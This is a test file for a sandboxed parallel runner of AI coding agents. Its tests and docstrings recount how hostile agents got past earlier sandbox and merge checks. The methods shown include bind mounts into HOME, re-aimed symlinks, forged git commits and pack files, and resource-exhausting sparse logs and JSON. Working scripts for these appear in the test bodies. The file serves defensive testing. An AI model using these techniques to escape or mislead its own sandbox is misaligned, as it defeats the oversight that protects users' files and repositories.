    """Round 75: 2,000 hard links named like the worker's Codex session, each a first line of
    1 MB of nested JSON, kept the runner 6 minutes after the agent, deaf to Ctrl-C. A session
    is one file: past 16 names none is read, and none is brought back (they are planted)."""
    folder = tmp_path / "codex"
    day = folder / "sessions" / "2026" / "12" / "06"
    day.mkdir(parents=True)
    (day / "blob").write_text('{"a":[' + ",".join(["[]"] * 349_000) + "]}\n")
    for i in range(400):
        os.link(day / "blob", day / f"rollout-{i}-abc.jsonl")
    reads = []
    real = ap._read_beneath
    monkeypatch.setattr(ap, "_read_beneath", lambda *a, **k: reads.append(a) or real(*a, **k))
    found = ap._codex_session(str(folder), "/nowhere", "abc")
    assert len(found) > 1  # (the caller brings none of them back)
    assert len(reads) <= 16  # (each about 0.15 s of parsing: 400 were a minute)


# -- review round 76 ---------------------------------------------------------------------------

@pytest.mark.parametrize("layout", ["outside the checkout", "through a link git does not track"])
def test_a_link_re_aimed_away_from_what_the_tree_does_not_hold_asks_for_force(cli, repo, tmp_path,
                                                                              layout):
    """Round 76: your tracked `conf -> ../team-conf` (outside the checkout), or `conf ->
    private/conf` with `private` an ignored link of yours to a secrets folder: the round-75
    guard asked git about a path it could not see (or none), and the agent's re-aimed `conf`
    was merged without --force."""
    shared = tmp_path / "shared" / "conf"
    shared.mkdir(parents=True)
    (shared / "local.yaml").write_text("parallel_runs:\n  sandbox: bwrap\n")
    if layout == "outside the checkout":
        os.symlink(str(shared), repo / "conf")
    else:
        (repo / ".gitignore").write_text("private\n")
        os.symlink(str(shared.parent), repo / "private")
        os.symlink("private/conf", repo / "conf")
    _merge_refused(cli, repo, tmp_path, "rm -f conf && mkdir -p alt && printf 'llm:\\n  model: "
                   "m\\n' > alt/local.yaml && ln -s alt conf\necho x > m.py\n",
                   "re-aims conf, which led to")


# -- review round 77 ---------------------------------------------------------------------------

SPARSE_CLAUDE = """
key=$(pwd | sed 's/[^A-Za-z0-9]/-/g')
mkdir -p "$HOME/.claude/projects/$key"
f="$HOME/.claude/projects/$key/s1.jsonl"
echo '{"turn": 1}' > "$f"
truncate -s {size} "$f"
echo '{"turn": 2}' >> "$f"
echo own > own.txt
echo '{"type": "result", "subtype": "success", "is_error": false, "session_id": "s1", "num_turns": 1, "result": "done"}'
"""


@needs_bwrap
@pytest.mark.parametrize("size", ["200M", "300M"])
def test_a_sparse_session_costs_you_what_it_cost_the_agent(cli, repo, tmp_path, size):
    """Round 76: a `claude` worker made its transcript a sparse file of 256 MB (free to it):
    the runner read it whole and wrote it, now real blocks, into your ~/.claude (6 workers:
    1.6 GB of runner memory, 1.5 GB of your disk). Now it is copied a MB at a time with its
    holes kept; one past 256 MB stays out, and the runner says so."""
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    bin_dir = tmp_path / "claudebin"
    bin_dir.mkdir()
    claude = script(bin_dir, "claude", SPARSE_CLAUDE.replace("{size}", size))
    env = dict(os.environ, HOME=str(home))
    proc = subprocess.Popen([sys.executable, os.path.join(CHECKOUT, "architect_parallel.py"), "run", "t",
                             "--agent-cmd", f"{claude} -p {{task}}", "--workers", "1", *BOXED],
                            cwd=repo, env=env, stdout=(tmp_path / "out").open("w"),
                            stderr=(tmp_path / "err").open("w"))
    peak = _peak_kb(proc)
    out, err = (tmp_path / "out").read_text(), (tmp_path / "err").read_text()
    assert proc.returncode == 0, (out, err)
    (kept,) = list((home / ".claude" / "projects").glob("*/s1.jsonl")) or [None]
    if size == "300M":
        assert kept is None and "more than 256 MB: not brought back" in err, err
    else:
        assert kept.stat().st_size == (200 << 20) + 12
        assert kept.stat().st_blocks * 512 < 1 << 20  # (its holes kept)
        with open(kept, "rb") as f:
            assert f.read(12) == b'{"turn": 1}\n'
            f.seek(200 << 20)
            assert f.read() == b'{"turn": 2}\n'
    assert peak < 150_000, peak  # KB: (was the whole file, and more)


@needs_bwrap
def test_an_allowed_folder_with_a_mount_inside_is_refused(cli, repo, tmp_path):
    """Round 77: `--sandbox-allow shared` with your HOME (a bind, a FUSE mount) mounted at
    `shared/mnt`: bwrap's bind takes mounts inside along, and Landlock's rule beneath the
    folder covers them, so the agent wrote into your HOME. A folder with anything mounted
    inside is refused before anything is created."""
    victim, shared = tmp_path / "victim", tmp_path / "shared"
    (shared / "mnt").mkdir(parents=True)
    victim.mkdir()
    shared.chmod(0o777)
    if subprocess.run(["mount", "--bind", str(victim), str(shared / "mnt")],
                      capture_output=True).returncode != 0:
        pytest.skip("cannot mount here (not root)")
    try:
        agent = script(tmp_path, "agent.sh", f"echo pwned > {shared}/mnt/pwned\necho x > a.txt\n")
        code, out, err = cli("run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}",
                             "--sandbox-allow", str(shared), *BOXED)
        assert code == 2 and f"--sandbox-allow {shared}: something is mounted inside it " \
            f"({shared}/mnt)" in err, (out, err)
        assert not (victim / "pwned").exists() and not (repo / ".architect-parallel-1").exists()
        assert ap._mounts_below(str(shared / "mnt")) == []  # (the mounted folder itself: allowed)
    finally:
        subprocess.run(["umount", str(shared / "mnt")], check=True)


SPARSE_RESUMED = """
key=$(pwd | sed 's/[^A-Za-z0-9]/-/g')
f="$HOME/.claude/projects/$key/s1.jsonl"
if [ -e "$f" ]; then stat -c %b "$f" > blocks.txt; else
  mkdir -p "$HOME/.claude/projects/$key"; echo '{"turn": 1}' > "$f"; truncate -s 200M "$f"
  echo own > own.txt; fi
echo '{"type": "result", "subtype": "success", "is_error": false, "session_id": "s1", "num_turns": 1, "result": "done"}'
"""


@needs_bwrap
def test_a_sparse_session_given_back_on_continue_keeps_its_holes(cli, repo, tmp_path, monkeypatch):
    """Round 77: round 76's fix kept a session's holes on the way back, but `continue` copied
    it into the private HOME with shutil.copy2, 200 MB of real zeros per worker and follow-up
    (in RAM where /tmp is tmpfs). Every copy the runner makes now keeps holes."""
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    bin_dir = tmp_path / "claudebin"
    bin_dir.mkdir()
    script(bin_dir, "claude", SPARSE_RESUMED)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    code, results, err = cli.json("run", "t", "--workers", "1", "--agent-cmd", "claude", *BOXED)
    assert code == 0 and results[0]["session_id"] == "s1", err
    code, results, err = cli.json("continue", "1", "more", "--progress", "none")
    assert code == 0 and results[0]["continued"][0]["resumed"] is True, err
    blocks = int(git("show", "architect/parallel-1:blocks.txt", cwd=repo))
    assert blocks * 512 < 1 << 20, blocks  # (was 409,608: every hole filled)


def test_a_link_of_yours_made_a_folder_is_refused_for_what_it_is(cli, repo, tmp_path):
    """Round 77 (B): an honest branch making your tracked `lib -> src` a folder of its own was
    refused as "more than 100,000 files, or names it cannot take as paths" (git check-ignore
    stops beyond a link of yours, and the tool cannot tell what your ignore rules hide
    there). It still asks for --force, now naming the link."""
    os.symlink("src", repo / "lib")
    _merge_refused(cli, repo, tmp_path, "git rm -q lib\nmkdir lib\necho 'y=2' > lib/b.py\n",
                   "adds files beneath lib, a link in your checkout: git cannot tell whether "
                   "your ignore rules hide files beyond a link")
    code, _out, err = cli("merge", "best", "--force")
    assert code == 0 and (repo / "lib" / "b.py").read_text() == "y=2\n", err


# -- review round 78 ---------------------------------------------------------------------------

def test_hundreds_of_long_named_repositories_inside_leave_the_work_committed(cli, repo, tmp_path):
    """Round 78: 700 repositories inside the worktree with 3.8 KB names: the runner put an
    exclude pathspec for each on git's command line (past its 2 MB limit: `Argument list too
    long`, and the worker's whole work was left off its branch; 50,000 took the runner to
    830 MB). Now they go to git in a file, and the worker's error names the first five."""
    agent = tmp_path / "nest.py"
    agent.write_text(
        "import os, subprocess\nsubprocess.run(['git', 'init', '-q', 'real'], check=True)\n"
        "real = os.path.abspath('real/.git')\n"
        "deep = os.path.join(*(['d' * 240] * 15))\nos.makedirs(deep)\n"
        "for i in range(800):\n"
        "    p = os.path.join(deep, '%06d' % i + 'e' * 200)\n    os.mkdir(p)\n"
        "    open(os.path.join(p, '.git'), 'w').write('gitdir: ' + real + '\\n')\n"
        "open('ok.txt', 'w').write('ok\\n')\n")
    code, results, err = cli.json("run", "t", "--workers", "1", "--progress", "none",
                                  "--agent-cmd", f"{sys.executable} {agent} {{task}}")
    (r,) = results
    assert r["status"] == "success" and r["commit"], (r, err)
    assert git("show", f"{r['commit']}:ok.txt", cwd=repo) == "ok"
    assert r["error"].startswith("committed without dddd") and " and 796 more: a git repository " \
        "inside the worktree cannot be committed" in r["error"], r["error"]
    assert len(r["error"]) < 1000


# -- review round 79 ---------------------------------------------------------------------------

@pytest.mark.parametrize("text, refused", [("int a;\n\x0c\nint b;\n", False),
                                           ("int a;\r\n\x0c\r\nint b;\r\n", False),
                                           ("x = 1\x0c# looks like a second line\n", True),
                                           ("x = 1\x0b\n", True)])
def test_a_page_break_alone_on_its_line_asks_nothing(repo, text, refused):
    """Round 79 (B): a form feed alone on its line (GNU C, Emacs Lisp page breaks) was
    refused as a terminal escape; it hides nothing. Elsewhere in a line it still asks (some
    terminals clear the screen at it, and it makes one line show as two)."""
    base, tip = _changes(repo, {"lib.c": text})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w for w in why) == refused, why


@needs_bwrap
@pytest.mark.parametrize("case", ["a bind of HOME", "a bind of the git folder",
                                  "HOME is on a bind of it", "inside where HOME's bind comes from"])
def test_an_allowed_folder_is_checked_under_every_name_a_bind_mount_gives_it(cli, repo, tmp_path,
                                                                              monkeypatch, case):
    """Round 79 (A): `--sandbox-allow alias`, alias a bind mount of HOME (or of the
    repository's .git): every check compared paths by name, realpath sees through no mount,
    and the agent wrote ~/.bashrc and a hook git then ran as you. Now each check runs under
    every name a bind mount gives the folder, or a folder inside it."""
    data = tmp_path / "data"
    (data / "me" / ".cache").mkdir(parents=True)
    (data / "me" / ".bashrc").write_text("# yours\n")
    source, point, home, allowed = {
        "a bind of HOME": (data / "me", tmp_path / "alias", data / "me", tmp_path / "alias"),
        "a bind of the git folder": (repo / ".git", tmp_path / "alias", data / "me",
                                     tmp_path / "alias"),
        "HOME is on a bind of it": (data / "me", tmp_path / "home", tmp_path / "home", data),
        "inside where HOME's bind comes from": (data, tmp_path / "mnt", tmp_path / "mnt" / "me",
                                                data / "me" / ".cache")}[case]
    point.mkdir(exist_ok=True)
    monkeypatch.setenv("HOME", str(home))
    if subprocess.run(["mount", "--bind", str(source), str(point)],
                      capture_output=True).returncode != 0:
        pytest.skip("cannot mount here (not root)")
    try:
        code, out, err = cli("run", "t", "--workers", "1", "--agent-cmd", "true {task}",
                             "--sandbox-allow", str(allowed), *BOXED)
        assert code == 2 and f"--sandbox-allow {allowed} (through a mount, the same folder as " in err, err
        assert ("overlaps the repository" if "git" in case else "it is or holds HOME") in err, err
        assert not (repo / ".architect-parallel-1").exists()
        if case == "a bind of HOME":  # (no false alarm: a folder of its own beside them)
            (tmp_path / "free").mkdir()
            (tmp_path / "free").chmod(0o777)
            code, out, err = cli("run", "t", "--workers", "1", "--agent-cmd", "true {task}",
                                 "--sandbox-allow", str(tmp_path / "free"), *BOXED)
            assert code == 0, err
    finally:
        subprocess.run(["umount", str(point)], check=True)


# -- review round 80 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("case", ["a bind over a mount at the same point",
                                  "below a folder mounted over later", "an overlay upon HOME"])
def test_an_allowed_folder_is_known_by_the_mount_it_is_on(cli, repo, tmp_path, monkeypatch, case):
    """Round 80 (A): round 79 found a folder's mount by its path: a bind of HOME stacked on a
    tmpfs at the same point (the hidden tmpfs was taken), or a tmpfs at `m/me` with a bind of
    HOME's parent mounted over `m` later, passed; and an overlay whose upper folder is HOME
    (what is written there goes there). Now the kernel's mount id says which mount a folder
    is on, and an overlay's folders count as its names."""
    home = tmp_path / "homes" / "me"
    home.mkdir(parents=True)
    (home / ".bashrc").write_text("# yours\n")
    monkeypatch.setenv("HOME", str(home))
    point = tmp_path / "point"
    (point / "me").mkdir(parents=True)
    mounts = {"a bind over a mount at the same point": [
                  ["-t", "tmpfs", "tmpfs", str(point)], ["--bind", str(home), str(point)]],
              "below a folder mounted over later": [
                  ["-t", "tmpfs", "tmpfs", str(point / "me")],
                  ["--bind", str(home.parent), str(point)]],
              "an overlay upon HOME": [
                  ["-t", "overlay", "overlay", "-o", f"lowerdir={tmp_path / 'low'},upperdir="
                   f"{home},workdir={tmp_path / 'work'}", str(point)]]}[case]
    allowed = point / "me" if case == "below a folder mounted over later" else point
    (tmp_path / "low").mkdir()
    (tmp_path / "work").mkdir()
    made = []
    try:
        for args in mounts:
            if subprocess.run(["mount", *args], capture_output=True).returncode != 0:
                pytest.skip("cannot mount here (not root)")
            made.append(args[-1])
        code, out, err = cli("run", "t", "--workers", "1", "--agent-cmd", "true {task}",
                             "--sandbox-allow", str(allowed), *BOXED)
        assert code == 2 and f"--sandbox-allow {allowed} (through a mount, the same folder as " in err \
            and "it is or holds HOME" in err, err
        assert not (repo / ".architect-parallel-1").exists()
    finally:
        for where in reversed(made):
            subprocess.run(["umount", where], check=True)


# -- review round 82 ---------------------------------------------------------------------------

HUGE_STREAM_CODEX = """#!{python}
import os, sys
print('{"type": "thread.started", "thread_id": "t-82"}', flush=True)
open("out.txt", "w").write("hi\\n")
for size in (8 << 40, 1 << 40, 64 << 30):  # (a sparse 8 TB log: no disk, no time; less
    try:  # where the file system cannot hold one)
        os.ftruncate(1, size)
        break
    except OSError:
        pass
os.lseek(1, 0, os.SEEK_END)
os.write(1, b'\\n{"type": "turn.completed", "usage": {"input_tokens": 3, "output_tokens": 4}}\\n')
"""


def test_an_event_stream_of_terabytes_is_read_at_its_ends(repo, tmp_path):
    """Round 82: a `codex` agent made its stdout log a sparse 8 TB file with one ftruncate;
    the runner read the zeros for a line end, some 80 minutes a worker, deaf to Ctrl-C and to
    --timeout-per-worker. An event stream over 256 MB is now read at its first and last
    128 MB: its session's start and its result are there."""
    bin_dir = tmp_path / "codexbin"
    bin_dir.mkdir()
    codex = bin_dir / "codex"
    codex.write_text(HUGE_STREAM_CODEX.replace("{python}", sys.executable))
    codex.chmod(0o755)
    env = dict(os.environ, PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}", OPENAI_API_KEY="x",
               PYTHONPATH=CHECKOUT)
    proc = subprocess.Popen([sys.executable, "-m", "architect_parallel", "run", "t", "--agent-cmd",
                             "codex", "--workers", "1", "--json", "--progress", "none"],
                            cwd=repo, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    try:
        out, err = proc.communicate(timeout=120)  # (was hours)
    finally:
        proc.kill()
    (r,) = json.loads(out)
    assert r["status"] == "success" and r["session_id"] == "t-82", (r, err)
    assert (r["tokens_in"], r["tokens_out"]) == (3, 4)
    assert os.path.getsize(r["log_path"]) > 64 << 30


# -- review round 83 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("how", ["the runner's commit", "its own commit, --no-commit",
                                 "its own commit, then a failed add"])
def test_a_worker_whose_objects_are_refused_records_no_commit(repo, tmp_path, capfd, how):
    """Round 83 (B): a worker whose objects were too large to take in still recorded the
    commit the runner made of its work, which is in no repository here: `diff 1` showed
    nothing (it read the branch, still at the base), the report said to fetch it "from where
    it ran", and the runner tried to put the branch at it. Now no commit is recorded and
    `diff 1` shows the work its worktree holds."""
    body = "echo \"print('fixed')\" > src/app.py\nhead -c 120000000 /dev/zero > data.bin\n"
    if how != "the runner's commit":  # (round 84: the same through other paths)
        body += "git add -A && git commit -qm own\n"
    if how.endswith("failed add"):
        body += "echo x > unreadable.txt && chmod 000 unreadable.txt\n"
    agent = script(tmp_path, "big.sh", body)
    ap.main(["run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}", "--check", "true",
             *BOXED, "--json", *(["--no-commit"] if "no-commit" in how else [])])
    out, err = capfd.readouterr()
    (r,) = json.loads(out)
    assert r["status"] == "failed" and "its objects are too large to take in" in r["error"], r
    assert r["commit"] is None and "nonexistent object" not in err, (r, err)
    assert git("rev-parse", "architect/parallel-1", cwd=repo) == r["base_commit"]
    assert ap.main(["diff", "1"]) == 0  # (git writes the diff itself)
    out, err = capfd.readouterr()
    assert "+print('fixed')" in out or how.endswith("failed add") and "src/app.py" in out + err, \
        (out, err)
    ap.main(["report"])
    out, err = capfd.readouterr()
    assert "from where it ran" not in out + err


def test_an_agents_output_is_read_for_a_bounded_time(cli, repo, tmp_path, monkeypatch):
    """Round 83 (A): a `codex` agent's 255 MB of `{}` lines (under round 82's 256 MB) kept the
    runner parsing two minutes after it, deaf to Ctrl-C and SIGTERM. Reading an agent's output
    now stops after _READ_SECONDS (2 here; 60 by default), or at a second interrupt, and the
    worker fails saying so."""
    bin_dir = tmp_path / "codexbin"
    bin_dir.mkdir()
    script(bin_dir, "codex", "echo x > agent.txt\n"
           f"{sys.executable} -c 'import sys; sys.stdout.write(\"{{}}\\n\" * (8 << 20))'\n")
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("OPENAI_API_KEY", "x")
    monkeypatch.setattr(ap, "_READ_SECONDS", 2)
    code, results, err = cli.json("run", "t", "--workers", "1", "--agent-cmd", "codex",
                                  "--progress", "none")
    (r,) = results
    assert r["status"] == "failed" and "its output took more than 2s to read" in r["error"], r
    stop = ap.threading.Event()
    stop.set()
    out = ap._Output(r["log_path"], r["stderr_path"], 0, stop)
    report = ap._read_result(ap.PRESETS["codex"], out)
    assert report.status == "failed" and "stopped (a second interrupt)" in report.reason


def test_the_last_object_search_holds_a_hundred_starts(tmp_path):
    """Round 83 (A): 4 MB of lines that open an object: the search listed all two million
    before keeping the last 100 (323 MB a worker)."""
    import tracemalloc
    out = tmp_path / "out.log"
    out.write_bytes(b"{\n" * (2 << 20))
    tracemalloc.start()
    try:
        assert ap._read_last_json(str(out)) is None
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 64 << 20, peak  # (the text itself is 8 MB as str; was 323 MB)


# -- review round 84 ---------------------------------------------------------------------------

def test_the_reading_bound_counts_a_readers_own_time(monkeypatch, tmp_path):
    """Round 84 (A): the 60 s bound was wall time: three hostile readers, which share the
    interpreter, held it while an honest worker's reader waited, and its 66 MB stream failed
    the bound (alone: 0.4 s). The bound now counts the reading thread's own CPU time."""
    monkeypatch.setattr(ap, "_READ_SECONDS", 0.5)
    out = ap._Output(str(tmp_path / "none"), str(tmp_path / "none"), 0)
    def spin():  # (another worker's reader, busy a second: event, not time, for this one)
        until = time.monotonic() + 1
        while time.monotonic() < until:
            pass

    spin = ap.threading.Thread(target=spin)
    spin.start()
    spin.join()
    out.going_on()  # (this thread has spent almost nothing: it goes on)


# -- review round 85 ---------------------------------------------------------------------------

@pytest.mark.parametrize("commit, said", [(None, "is only in its worktree (no commit of it is on "
                                                 "architect/parallel-1)"),
                                          ("a" * 40, "is still on architect/parallel-1")])
def test_a_failed_follow_up_says_where_the_earlier_work_is(tmp_path, commit, said):
    """Round 85 (B): a failed `continue` of a worker whose work no commit holds (its objects
    refused, or --no-commit) said that work "is still on" its branch, which held none of it."""
    r = ap.WorkerResult(worker_id=1, branch="architect/parallel-1", model="m", task="t",
                        status="failed", steps=1, cost=0.0, duration=1.0, files_modified=["a"],
                        worktree_path=str(tmp_path), commit=commit)
    text = ap._format_table([r], str(tmp_path), follow_up=True)
    assert f"what worker 1 did before {said}" in text, text


# -- review round 86 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("how", ["staged, then unstaged", "on a branch of its own"])
def test_objects_no_commit_of_the_worker_holds_are_neither_measured_nor_taken(
        cli, repo, tmp_path, how):
    """Round 85 (B): a 110 MB file the agent staged and then unstaged (or committed on a branch
    of its own, thrown away with its sandbox) counted toward the limits on what comes in, and
    failed an honest worker whose commit never held it. Only what its commits hold is measured
    and taken in now."""
    big = "head -c 115343360 /dev/zero > big.bin\n"
    body = {"staged, then unstaged": big + "git add big.bin && git reset -q big.bin && rm big.bin\n",
            "on a branch of its own": "git checkout -qb side\n" + big +
            "git add big.bin && git commit -qm big && git checkout -q architect/parallel-1\n"}[how]
    r, err = _one_worker(cli, tmp_path, body + "echo fixed > fixed.txt\n", "true", "bwrap")
    assert r["status"] == "success" and r["commit"] and r["files_modified"] == ["fixed.txt"], \
        (r, err)
    assert git("rev-parse", "architect/parallel-1", cwd=repo).strip() == r["commit"]
    assert not any(line.endswith(" 115343360") for line in git(
        "cat-file", "--batch-all-objects", "--batch-check=%(objectname) %(objectsize)",
        cwd=repo).splitlines())  # (not taken in)


FORGED_BASE = r"""
import os, subprocess, zlib
def git(*a):
    return subprocess.run(["git", *a], capture_output=True, text=True, check=True).stdout.strip()
base, tree = git("rev-parse", "HEAD~2"), git("rev-parse", "HEAD~1^{tree}")
body = f"tree {tree}\nauthor a <a@a> 1 +0000\ncommitter a <a@a> 1 +0000\n\nforged\n".encode()
folder = os.path.join(os.environ["GIT_OBJECT_DIRECTORY"], base[:2])
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, base[2:]), "wb") as f:
    f.write(zlib.compress(b"commit %d\0" % len(body) + body))
"""


@needs_bwrap
@pytest.mark.parametrize("commit", [True, False])
def test_a_branch_tip_forged_in_the_sandbox_leaves_its_commit_short_and_not_taken(
        cli, repo, tmp_path, commit):
    """The walk of what a worker's commits hold stops at your branches, read in its sandbox,
    where the worker may give their ids objects of its own: here the base commit, forged to
    hold the tree of the worker's first commit (a file its second removed, which no git
    outside hashed from its worktree), so that it was not listed. Its commit is then
    short of objects in your repository, and is not taken: the worker fails, its branch stays
    where it was, and your repository holds no commit it cannot read whole."""
    body = ("echo secret > new.txt && git add -A && git commit -qm own && git rm -q new.txt "
            "&& git commit -qm gone\n"
            f"{sys.executable} - <<'EOF'\n{FORGED_BASE}\nEOF\n")
    r, err = _one_worker(cli, tmp_path, body, "true", "bwrap",
                         *([] if commit else ["--no-commit"]))
    assert r["status"] == "failed" and ("not a whole commit here" in r["error"] or
                                        "cannot bring its objects in" in r["error"]), (r, err)
    assert r["commit"] is None, r
    assert git("rev-parse", "architect/parallel-1", cwd=repo).strip() == r["base_commit"]
    git("rev-list", "--objects", "--all", cwd=repo)  # (every ref readable whole)
    git("fsck", "--connectivity-only", cwd=repo)


@pytest.mark.parametrize("value", ["[]", '"ab"', '{"k": 1.5}', "123456"])
def test_a_line_of_too_many_values_is_not_parsed(tmp_path, value):
    """Round 84 (A): a 4 MB event line of `[]` became 230 MB of objects while parsed, per
    worker at once (729 MB for four); the same for the last-object search of 4 MB, and a
    16 MB results file of `[]` for collect took 472 MB. Round 85 (A): round 84 counted the objects and arrays a line opens, not its other
    values: a 4 MB event line of short strings became 57 MB while parsed (per worker at once),
    and a 16 MB results file of them took collect to 300 MB. Commas count as values too now:
    such a line is skipped, the last-object search stops, and the results file is refused,
    while a line of 90,000 values is read."""
    import tracemalloc
    many = "[" + ",".join([value] * ((16 << 20) // (len(value) + 1) - 32)) + "]"
    line = many[:(4 << 20) - 64].rpartition(",")[0] + "]"
    stream, last, results = (tmp_path / name for name in ("stream", "last", "results.json"))
    stream.write_text('{"type": "thread.started", "thread_id": "t"}\n{"id": ' + line + "}\n"
                      '{"type": "turn.completed", "n": [' + ",".join(["1"] * 90_000) + "]}\n")
    last.write_text('{"result": ' + line + "}\n")
    results.write_text('{"fingerprint": "x", "results": ' + many + "}")
    tracemalloc.start()
    try:
        events = list(ap._json_lines(str(stream)))
        assert ap._read_last_json(str(last)) is None
        with pytest.raises(ap.ParallelError, match="holds more than 400,000 values"):
            ap._read_results_file(str(results), "x")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [e.get("type") for e in events] == ["thread.started", "turn.completed"]
    assert peak < 40 << 20, peak  # (the text itself, a few times: 57 MB a line before)


@needs_bwrap
@pytest.mark.parametrize("pack", ["git pack-refs --all", "git gc -q"])
@pytest.mark.parametrize("commit", [True, False])
def test_a_branch_its_git_packed_is_taken(cli, repo, tmp_path, pack, commit):
    """Round 86 (B): an honest worker that committed its work and then packed its refs (`git
    pack-refs`, `git gc`, `git maintenance`) failed ("its branch was moved after its work was
    committed"), or with --no-commit lost its commit: only the loose ref was read."""
    r, err = _one_worker(cli, tmp_path, "echo feature > feat.txt && git add -A && "
                         f"git commit -qm 'agent: add feature' && {pack}\n", "true", "bwrap",
                         *([] if commit else ["--no-commit"]))
    assert r["status"] == "success" and r["commit"] and r["files_modified"] == ["feat.txt"], \
        (r, err)
    assert git("rev-parse", "architect/parallel-1", cwd=repo).strip() == r["commit"]
    assert git("log", "-1", "--format=%s", r["commit"], cwd=repo).strip() == "agent: add feature"


PACK_FORGER = r'''
import hashlib, os, struct, sys, zlib
folder, ids = sys.argv[1], sys.argv[2:]
os.makedirs(folder, exist_ok=True)
base = "cd" * 20  # (a blob of 3 bytes under a made-up id, and for each id a delta against
body = b"PACK" + struct.pack(">II", 2, len(ids) + 1)  # it claiming 5 bytes, which cannot apply)
at = {base: len(body)}
body += bytes([(3 << 4) | 3]) + zlib.compress(b"abc")
for sha in ids:
    at[sha] = len(body)
    delta = bytes([10, 5, 5]) + b"hello"
    body += bytes([(7 << 4) | len(delta)]) + bytes.fromhex(base) + zlib.compress(delta)
trailer = hashlib.sha1(body).digest()
names = sorted(at)
fan = [sum(1 for n in names if int(n[:2], 16) <= i) for i in range(256)]
idx = b"\377tOc" + struct.pack(">I", 2) + b"".join(struct.pack(">I", c) for c in fan)
idx += b"".join(bytes.fromhex(n) for n in names) + b"\0\0\0\0" * len(names)
idx += b"".join(struct.pack(">I", at[n]) for n in names) + trailer
idx += hashlib.sha1(idx).digest()
for ext, data in ((".pack", body + trailer), (".idx", idx)):
    with open(os.path.join(folder, f"pack-{trailer.hex()}{ext}"), "wb") as f:
        f.write(data)
'''


@needs_bwrap
def test_a_forged_copy_of_an_object_does_not_measure_it(cli, repo, tmp_path, monkeypatch):
    """Round 86 (A): the sizes were read in the sandbox, from the first copy of each object
    git finds: a pack the worker made, holding a broken delta that claims 5 bytes under the id
    of its 400 MB blob; `pack-objects` then fell back to the whole copy, which came in (three
    of them: 1.2 GB, the worker a success). What is packed is measured now, outside, before it
    is indexed. (The limit is 1 MB here.)"""
    monkeypatch.setattr(ap, "_OBJECT_LIMIT", 1 << 20)
    r, err = _one_worker(cli, tmp_path, "head -c 2000000 /dev/urandom > big.bin\n"
                         "git add big.bin && git commit -qm big\n"
                         f"{sys.executable} - \"$GIT_OBJECT_DIRECTORY/pack\" "
                         f"$(git rev-parse HEAD:big.bin) <<'EOF'\n{PACK_FORGER}\nEOF\n"
                         "test \"$(git cat-file -s HEAD:big.bin)\" = 5\n", "true", "bwrap")
    assert r["status"] == "failed" and "its objects are too large to take in (1 MB the " \
        "largest" in r["error"], (r, err)
    assert "big.bin" not in git("ls-tree", "-r", "--name-only", "architect/parallel-1", cwd=repo)
    assert not any(line.endswith(" 2000000") for line in git(
        "cat-file", "--batch-all-objects", "--batch-check=%(objectname) %(objectsize)",
        cwd=repo).splitlines())


def _pack(*entries):
    """A pack of ``entries``, each (type, size its header says, data to compress, base id)."""
    import struct
    import zlib
    body = b"PACK" + struct.pack(">II", 2, len(entries))
    for kind, size, data, base in entries:
        head, size, first = [], size, True
        while first or size:
            part = size & (0x0F if first else 0x7F)
            size >>= 4 if first else 7
            head.append(part | ((kind << 4) if first else 0))
            first = False
        head = [b | 0x80 for b in head[:-1]] + head[-1:]
        body += bytes(head) + (bytes.fromhex(base) if base else b"") + zlib.compress(data)
    return body + b"\0" * 20


@pytest.mark.parametrize("entries, said", [
    ([(3, 5, b"hello", None)], None),
    ([(3, 5, b"hello", None), (7, 6, bytes([5, 0x80, 0x80, 0x80, 0x80, 0x01]), "ab" * 20)],
     "too large to take in (256 MB the largest"),  # (a 6-byte delta making 256 MB)
    ([(3, 200 << 20, b"", None)], "too large to take in (200 MB the largest"),
    ([(3, 5, b"hello, more than five", None)], "inflates past its size"),
    ([(3, 5, b"hello", None)] * 3, "too many to take in (more than 2)"),
    ([(5, 5, b"hello", None)], "unknown type 5"),
])
def test_a_pack_is_measured_before_it_is_indexed(tmp_path, monkeypatch, entries, said):
    """What _pack_sizes reads of a pack: each entry's size, and what each delta makes, before
    git index-pack outside allocates them; its count; a pack that is no pack."""
    monkeypatch.setattr(ap, "_OBJECTS_COUNT", 2)
    path = tmp_path / "p.pack"
    path.write_bytes(_pack(*entries))
    with open(path, "rb") as f:
        problem = ap._pack_sizes(f, 20)
    assert (problem is None) if said is None else (said in (problem or "")), problem


def test_a_pack_git_made_is_measured_whole(repo, tmp_path):
    """A real pack (with deltas) reads through: every entry ends where the next starts."""
    for i in range(30):
        (repo / "src" / "app.py").write_text("print('hello')\n" * 200 + f"# {i}\n")
        git("commit", "-qam", f"c{i}", cwd=repo)
    out = subprocess.run(["git", "pack-objects", "--stdout", "-q", "--revs"], cwd=repo,
                         input=b"HEAD\n", capture_output=True, check=True).stdout
    assert out.count(b"PACK") >= 1 and len(out) > 1000
    (tmp_path / "p.pack").write_bytes(out)
    with open(tmp_path / "p.pack", "rb") as f:
        assert ap._pack_sizes(f, 20) is None


def test_cleanup_keeps_work_no_commit_holds_after_a_run_that_does_not_name_its_worker(
        repo, capfd):
    """Round 86 (B): round 85's refusal read the last run's results only: after a second run
    of worker 2 alone (or a collect), worker 1's --no-commit work, the only copy, was deleted by
    `cleanup` without --force. It is recorded with its worktree now."""
    assert ap.main(["run", "fake:write=a.txt", "--workers", "2", "--no-commit", "--quiet"]) == 0
    assert ap.main(["run", "fake:write=b.txt", "--workers", "2", "--only-workers", "2",
                    "--no-commit", "--quiet", "--force"]) == 0
